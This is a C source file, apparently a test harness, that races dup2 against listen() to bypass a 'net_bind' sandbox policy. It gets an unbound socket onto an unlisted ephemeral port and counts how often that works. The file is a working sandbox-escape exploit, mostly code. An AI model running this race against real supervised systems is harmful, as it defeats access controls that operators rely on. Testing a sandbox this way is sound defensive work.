// The listen() auto-bind attack on net_bind: one thread dup2's, over and over, an unbound TCP
// socket and one bound to the allowed port onto one fd number, while the main thread calls
// listen() through that number. A listen decided on the bound socket and performed by the
// kernel on the unbound one gives it an ephemeral port that net_bind does not list.
//
//   listen_swap ALLOWED_PORT TRIES      prints "tries N succeeded S" (S: unbound sockets listening)
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

enum { kSwapped = 200 };
static atomic_int stop;
static atomic_int unbound;
static int bound;

static void* swapper(void* unused) {
    (void)unused;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        dup2(atomic_load_explicit(&unbound, memory_order_relaxed), kSwapped);
        dup2(bound, kSwapped);
    }
    return NULL;
}

static int port_of(int fd) {
    struct sockaddr_in address;
    socklen_t length = sizeof address;
    if (getsockname(fd, (struct sockaddr*)&address, &length) != 0) return -1;
    return ntohs(address.sin_port);
}

int main(int argc, char** argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: listen_swap ALLOWED_PORT TRIES\n");
        return 2;
    }
    const int tries = atoi(argv[2]);
    struct sockaddr_in allowed = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[1]))};
    allowed.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    bound = socket(AF_INET, SOCK_STREAM, 0);
    const int one = 1;
    setsockopt(bound, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(bound, (struct sockaddr*)&allowed, sizeof allowed) != 0) {
        perror("bind to the allowed port");
        return 2;
    }
    atomic_store(&unbound, socket(AF_INET, SOCK_STREAM, 0));
    if (dup2(bound, kSwapped) < 0) return 2;
    pthread_t thread;
    pthread_create(&thread, NULL, swapper, NULL);

    int succeeded = 0;
    for (int i = 0; i < tries; ++i) {
        listen(kSwapped, 1);
        sched_yield();  // let the swapper run even where listen() is not supervised (the baseline)
        const int victim = atomic_load(&unbound);
        if (port_of(victim) > 0) {  // an unbound socket got a port: the attack worked
            ++succeeded;
            atomic_store(&unbound, socket(AF_INET, SOCK_STREAM, 0));
            close(victim);
        }
    }
    atomic_store(&stop, 1);
    pthread_join(thread, NULL);
    printf("tries %d succeeded %d\n", tries, succeeded);
    return 0;
}
